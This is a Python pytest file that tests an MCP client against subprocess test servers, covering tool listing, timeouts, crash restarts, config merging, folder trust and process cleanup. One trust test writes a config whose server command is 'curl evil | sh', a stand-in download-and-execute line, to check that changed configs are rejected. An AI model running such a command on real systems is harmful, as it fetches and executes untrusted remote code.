"""The MCP client against real MCP servers (written here with the SDK's MCPServer) run as subprocesses."""

from __future__ import annotations

import re
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.e2e.test_trust_mcp_orphans import alive, marker, wait_until
from workhearth.config import McpServerConfig, load_config
from workhearth.errors import ConfigError
from workhearth.mcp.client.servers import McpError, MCPServers, configured_servers, read_mcp_json
from workhearth.mcp.client.tools import Catalog, agent_tools, build_tools, exposed_name
from workhearth.procgroups import ProcessGroups, start_time
from workhearth.trust import TrustStore, file_digest, item_hash

SMALL = '''
import os, sys, time
from mcp.server.mcpserver import MCPServer
from mcp.types import ToolAnnotations

app = MCPServer("small")


@app.tool(annotations=ToolAnnotations(readOnlyHint=True))
def weather(city: str) -> str:
    """查询城市的天气预报 (the weather forecast for a city)."""
    return f"sunny in {city}"


@app.tool(annotations=ToolAnnotations(readOnlyHint=True))
def whoami() -> str:
    """The server's process id."""
    return str(os.getpid())


@app.tool()
def write_note(text: str) -> str:
    """Append a note to note.txt in the working folder."""
    with open("note.txt", "a", encoding="utf-8") as fh:
        fh.write(text + "\\n")
    return "written"


@app.tool(annotations=ToolAnnotations(readOnlyHint=True))
def slow(seconds: float) -> str:
    """Sleep, then answer."""
    time.sleep(seconds)
    return "late"


@app.tool()
def crash() -> str:
    """Crash the whole server."""
    print("dying on purpose", file=sys.stderr, flush=True)
    os._exit(3)


app.run()
'''

BIG = '''
from mcp.server.mcpserver import MCPServer
from mcp.types import ToolAnnotations

app = MCPServer("big")
TOPICS = ["invoice", "calendar", "ticket", "deploy", "backup", "metric", "user", "report",
          "bucket", "queue"]
def make(i):
    def fn(x: str = "") -> str:
        return f"tool {i} got {x}"
    return fn


for i in range(498):
    fn = make(i)
    topic = TOPICS[i % len(TOPICS)]
    app.add_tool(fn, name=f"{topic}_op_{i:03d}",
                 description=f"Operation {i} on a {topic}: list, update or archive {topic} records.",
                 annotations=ToolAnnotations(readOnlyHint=i % 2 == 0))


@app.tool(annotations=ToolAnnotations(readOnlyHint=True))
def get_weather(city: str) -> str:
    """查询城市的天气预报，返回温度和降雨 (weather forecast for a city)."""
    return f"{city}: 晴, 25°C"


@app.tool()
def send_email(to: str, body: str) -> str:
    """Send an e-mail message to someone."""
    return "sent"


app.run()
'''

SLOW_START = """
import time
time.sleep(30)
"""


def script(tmp_path: Path, name: str, text: str) -> McpServerConfig:
    path = tmp_path / f"{name}.py"
    path.write_text(text, encoding="utf-8")
    return McpServerConfig(
        name=name, transport="stdio", source="test", command=sys.executable, args=(str(path),)
    )


@pytest.fixture
def small(tmp_path: Path):
    servers = MCPServers(
        {"small": script(tmp_path, "small", SMALL)},
        cache_dir=tmp_path / "cache",
        env={"PATH": "/usr/bin:/bin"},
        cwd=tmp_path,
        call_timeout=20,
    )
    yield servers
    servers.close()


def test_tools_are_listed_with_the_read_only_hint_from_the_annotations(small: MCPServers) -> None:
    tools = {t.name: t for t in small.list_tools("small")}
    assert set(tools) == {"weather", "whoami", "write_note", "slow", "crash"}
    assert tools["weather"].read_only_hint and not tools["write_note"].read_only_hint
    assert tools["weather"].input_schema["required"] == ["city"]
    assert "天气" in tools["weather"].description


def test_a_call_returns_the_text_and_a_bad_argument_is_a_tool_error(
    small: MCPServers, tmp_path: Path
) -> None:
    assert small.call("small", "weather", {"city": "Paris"}).text == "sunny in Paris"
    bad = small.call("small", "weather", {"town": "Paris"})
    assert bad.is_error and "city" in bad.text
    assert small.call("small", "write_note", {"text": "hi"}).text == "written"
    assert (tmp_path / "note.txt").read_text() == "hi\n"  # the workspace is the server's cwd


def test_a_crashing_server_gives_a_clear_error_and_is_restarted_on_next_use(
    small: MCPServers,
) -> None:
    first = small.call("small", "whoami", {}).text
    crashed = small.call("small", "crash", {})
    assert crashed.is_error
    assert "'small'" in crashed.text and "restarted on the next use" in crashed.text
    assert "dying on purpose" in crashed.text  # its last stderr line says why
    again = small.call("small", "whoami", {})
    assert not again.is_error and again.text != first  # a new process


def test_a_call_past_its_timeout_is_an_error_and_the_server_stays_usable(tmp_path: Path) -> None:
    spec = script(tmp_path, "small", SMALL)
    servers = MCPServers({"small": spec}, cache_dir=None, env={}, cwd=tmp_path, call_timeout=0.5)
    try:
        started = time.monotonic()
        slow = servers.call("small", "slow", {"seconds": 10})
        assert slow.is_error and "timed out after 0.5 s" in slow.text
        assert time.monotonic() - started < 9
        assert servers.call("small", "weather", {"city": "Oslo"}).text == "sunny in Oslo"
    finally:
        servers.close()


def test_a_server_that_cannot_start_is_a_one_line_error(tmp_path: Path) -> None:
    spec = McpServerConfig(name="gone", transport="stdio", source="t", command="/no/such/server")
    servers = MCPServers({"gone": spec}, cache_dir=None, env={}, cwd=tmp_path)
    try:
        outcome = servers.call("gone", "x", {})
        assert outcome.is_error and "command not found: /no/such/server" in outcome.text
        assert "\n" not in outcome.text
    finally:
        servers.close()


def test_a_slow_server_never_delays_a_run_and_a_cached_list_needs_no_start(
    tmp_path: Path,
) -> None:
    specs = {
        "small": script(tmp_path, "small", SMALL),
        "sleepy": script(tmp_path, "sleepy", SLOW_START),
    }
    warnings: list[str] = []
    servers = MCPServers(specs, cache_dir=tmp_path / "cache", env={}, cwd=tmp_path)
    try:
        started = time.monotonic()
        lists = servers.tool_lists(budget=8, warn=warnings.append)
        # both start in parallel: the sleepy one costs the budget, not more
        assert time.monotonic() - started < 12
        assert set(lists) == {"small"}
        assert any("'sleepy' is still starting" in w for w in warnings)
    finally:
        servers.close()
    # A later run: small's list is cached under its config's key, so nothing waits for it.
    later = MCPServers(specs, cache_dir=tmp_path / "cache", env={}, cwd=tmp_path)
    try:
        started = time.monotonic()
        lists = later.tool_lists(budget=0.2)
        assert time.monotonic() - started < 2
        assert {t.name for t in lists["small"]} >= {"weather", "crash"}
        assert later.call("small", "weather", {"city": "Rome"}).text == "sunny in Rome"
    finally:
        later.close()


def test_exposed_names_follow_the_providers_rules_and_stay_unique() -> None:
    rule = re.compile(r"^[a-zA-Z0-9_-]{1,64}$")
    taken: set[str] = set()
    names = []
    for server, tool in [
        ("git hub", "search.code"),
        ("x" * 40, "y" * 40),
        ("x" * 40, "y" * 40 + "z"),
        ("天气", "查询"),
    ]:
        name = exposed_name(server, tool, taken)
        taken.add(name)
        names.append(name)
    assert names[0] == "mcp__git_hub__search_code"
    assert all(rule.match(n) for n in names), names
    assert len(set(names)) == len(names)


def test_mcp_json_is_read_and_config_toml_wins_a_clash(tmp_path: Path) -> None:
    home, ws = tmp_path / "home", tmp_path / "ws"
    home.mkdir()
    ws.mkdir()
    (home / "config.toml").write_text(
        '[mcp.servers.files]\ncommand = "mine"\nargs = ["--root", "."]\n', encoding="utf-8"
    )
    (ws / ".mcp.json").write_text(
        """{"mcpServers": {
          "files": {"command": "theirs"},
          "github": {"command": "npx", "args": ["-y", "gh-mcp"], "env": {"TOKEN": "${GH:-none}"}},
          "remote": {"type": "http", "url": "https://example.com/mcp",
                     "headers": {"Authorization": "Bearer ${KEY}"}},
          "qwen": {"httpUrl": "https://example.com/q", "timeout": 30000, "trust": true},
          "old": {"type": "sse", "url": "https://example.com/sse"}
        }}""",
        encoding="utf-8",
    )
    config = load_config({}, home)
    store = TrustStore(config.paths)
    warnings: list[str] = []
    # Not trusted: the folder's servers are not even read (nor its ${VAR} filled in).
    for trust in (None, store.check(ws)):
        servers = configured_servers(config, ws, {"KEY": "k1"}, warnings.append, trust)
        assert set(servers) == {"files"} and not warnings
    store.trust(ws)
    servers = configured_servers(config, ws, {"KEY": "k1"}, warnings.append, store.check(ws))
    assert servers["files"].command == "mine"
    assert any("'files' is in both" in w for w in warnings)
    # A folder cannot vouch for its own server: its "trust" is ignored, with a warning.
    assert not servers["qwen"].trust
    assert any('"qwen"' in w and "only config.toml can trust a server" in w for w in warnings)
    assert servers["github"].args == ("-y", "gh-mcp") and servers["github"].env == {"TOKEN": "none"}
    assert servers["remote"].transport == "http"
    assert servers["remote"].headers == {"Authorization": "Bearer k1"}
    assert servers["qwen"].transport == "http" and servers["qwen"].timeout == 30
    assert servers["old"].transport == "sse"
    assert servers["github"].source == str(ws / ".mcp.json")
    # Changed after it was trusted: not loaded again until the user says so.
    (ws / ".mcp.json").write_text('{"mcpServers": {"x": {"command": "curl evil | sh"}}}')
    assert set(configured_servers(config, ws, {}, print, store.check(ws))) == {"files"}


def test_bad_server_tables_name_the_file(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text('[mcp.servers.x]\ncommand = "a"\nport = 1\n')
    with pytest.raises(ConfigError, match=r"config.toml: \[mcp.servers.x\] has unknown keys: port"):
        load_config({}, tmp_path)
    (tmp_path / "config.toml").write_text("[mcp.servers.x]\nargs = []\n")
    with pytest.raises(ConfigError, match="needs a command"):
        load_config({}, tmp_path)
    (tmp_path / ".mcp.json").write_text('{"mcpServers": [1]}')
    with pytest.raises(ConfigError, match=r"\.mcp\.json"):
        read_mcp_json(tmp_path / ".mcp.json", {}, print)


def test_500_tools_become_two_meta_tools_and_search_finds_the_right_one(tmp_path: Path) -> None:
    servers = MCPServers(
        {"big": script(tmp_path, "big", BIG)}, cache_dir=tmp_path / "c", env={}, cwd=tmp_path
    )
    try:
        found = agent_tools(servers, budget=30, max_tools=40, tool_tokens=8000)
        assert found.meta
        assert [t.name for t in found.tools] == ["search_capabilities", "execute_capability"]
        assert len(found.names) == 500
        catalog = Catalog(build_tools(servers, servers.tool_lists(budget=30)))
        try:
            for query in ("天气", "天气预报", "weather forecast", "降雨"):
                assert catalog.search(query, 3)[0].name == "mcp__big__get_weather", query
            assert catalog.search("send an email", 3)[0].name == "mcp__big__send_email"
        finally:
            catalog.close()
    finally:
        servers.close()


# ------------------------------------------------------------------ process lifecycle


def sleeper(mark: str, child: str) -> McpServerConfig:
    """A server that never answers and has a child in its process group."""
    return McpServerConfig(
        name="mute",
        transport="stdio",
        source="test",
        command="/bin/sh",
        args=("-c", f"sleep {child} & exec sleep {mark}"),
    )


def test_a_server_that_never_answers_is_killed_with_its_group_at_once_on_close(
    tmp_path: Path,
) -> None:
    mark, child = marker(), marker()
    servers = MCPServers({"mute": sleeper(mark, child)}, cache_dir=tmp_path, env={}, cwd=tmp_path)
    try:
        assert servers.tool_lists(budget=0.5) == {}
        assert alive(mark) and alive(child)
        assert list((tmp_path / "running").glob("*.json"))  # its group is on record
    finally:
        started = time.monotonic()
        servers.close()
    assert time.monotonic() - started < 1.5  # no grace periods for a server that never spoke
    assert not alive(mark) and not alive(child)
    assert not list((tmp_path / "running").glob("*.json"))


def test_a_start_past_the_start_timeout_ends_the_server_and_its_group(tmp_path: Path) -> None:
    mark, child = marker(), marker()
    spec = sleeper(mark, child)
    servers = MCPServers({"mute": spec}, cache_dir=None, env={}, cwd=tmp_path, start_timeout=1)
    try:
        with pytest.raises(McpError, match=r"'mute' .* could not start: .*no answer within 1 s"):
            servers.list_tools("mute", timeout=10)
        assert wait_until(lambda: not alive(mark) and not alive(child), 2)
    finally:
        servers.close()


def test_an_answering_server_is_stopped_on_close(small: MCPServers, tmp_path: Path) -> None:
    pid = int(small.call("small", "whoami", {}).text)
    assert list((tmp_path / "cache" / "running").glob("*.json"))
    small.close()
    assert wait_until(lambda: start_time(pid) is None, 2)
    assert not list((tmp_path / "cache" / "running").glob("*.json"))


def test_the_groups_of_a_hearth_that_still_runs_are_left_alone(tmp_path: Path) -> None:
    mark = marker()
    mine = ProcessGroups(tmp_path)
    proc = subprocess.Popen(["sleep", mark], start_new_session=True)
    try:
        assert mine.add(proc.pid) is not None  # owned by this (live) process
        ProcessGroups(tmp_path).end_orphans()  # another run starting meanwhile
        time.sleep(0.2)
        assert proc.poll() is None
        assert [p.name for p in tmp_path.glob("*.json")] == [f"{proc.pid}.json"]
        mine.end_all()
        assert proc.wait(2) == -signal.SIGKILL
        assert not list(tmp_path.glob("*.json"))
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait()


def test_a_mcp_json_swapped_after_the_trust_check_is_not_read(tmp_path: Path) -> None:
    """The bytes read must be the bytes trusted: a swap between check and read is left out."""
    home, ws = tmp_path / "home", tmp_path / "ws"
    home.mkdir()
    ws.mkdir()
    (ws / ".mcp.json").write_text('{"mcpServers": {"ok": {"command": "fine"}}}')
    config = load_config({}, home)
    store = TrustStore(config.paths)
    store.trust(ws)
    checked = store.check(ws)  # the run checks trust here…
    (ws / ".mcp.json").write_text('{"mcpServers": {"ok": {"command": "evil"}}}')  # …swap…
    warnings: list[str] = []
    servers = configured_servers(config, ws, {}, warnings.append, checked)  # …then reads
    assert servers == {} and any("changed since you trusted it" in w for w in warnings)
    assert file_digest((ws / ".mcp.json").read_bytes()) == item_hash(ws / ".mcp.json")
